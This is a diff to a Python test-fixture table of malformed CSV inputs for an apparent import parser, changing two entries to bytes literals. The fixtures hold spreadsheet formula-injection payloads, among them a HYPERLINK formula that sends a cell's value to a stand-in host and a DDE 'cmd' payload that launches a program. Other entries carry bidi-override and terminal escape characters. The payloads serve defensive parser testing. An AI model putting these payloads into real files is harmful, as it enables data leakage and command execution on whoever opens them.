@@ -83,13 +83,13 @@ TEXT: dict[str, bytes] = {
     "emoji_rtl.csv": ("email,firstName,lastName\nemoji@example.com,Zoë 👩‍👩‍👧‍👦,🇵🇱 Nowak\n"
                       "rtl@example.com,محمد,כהן\noverride@example.com,\u202eevil\u202c,A\u200db\n"
                       "combining@example.com,Zoe\u0308,Ame\u0301lie\n").encode(),
-    "formula_injection.csv": ("email,firstName,lastName\n"
-                              "=1+1,=HYPERLINK(\"http://x.example/?\"&A1;\"click\"),Nowak\n"
-                              "+48 600,+SUM(1;2),-2+3\n"
-                              "@evil,@SUM(A1:A9),\"\t=1+1\"\n"
-                              "-not-an-email,\"\r=cmd|' /C calc'!A0\",Smith\n").encode(),
-    "control_characters.csv": ("email,firstName,lastName\nesc@example.com,\x1b[31mRed\x1b[0m,Bell\x07\n"
-                               "bs@example.com,Back\x08space,Form\x0cfeed\n").encode(),
+    "formula_injection.csv": (b"email,firstName,lastName\n"
+                              b"=1+1,=HYPERLINK(\"http://x.example/?\"&A1;\"click\"),Nowak\n"
+                              b"+48 600,+SUM(1;2),-2+3\n"
+                              b"@evil,@SUM(A1:A9),\"\t=1+1\"\n"
+                              b"-not-an-email,\"\r=cmd|' /C calc'!A0\",Smith\n"),
+    "control_characters.csv": (b"email,firstName,lastName\nesc@example.com,\x1b[31mRed\x1b[0m,Bell\x07\n"
+                               b"bs@example.com,Back\x08space,Form\x0cfeed\n"),
     "whitespace_cells.csv": ("email,firstName,gender\n   ,Anna,Female\n\u00a0\u2003,Bob,Male\n"
                              "\t,Celine,\u00a0\nd@example.com,\u3000,  \n").encode(),
     "deep_multiline_cell.csv": (CUSTOMERS + 'a@example.com,"' + "line\n" * 2000 + '",Nowak,1990-01-01\n'
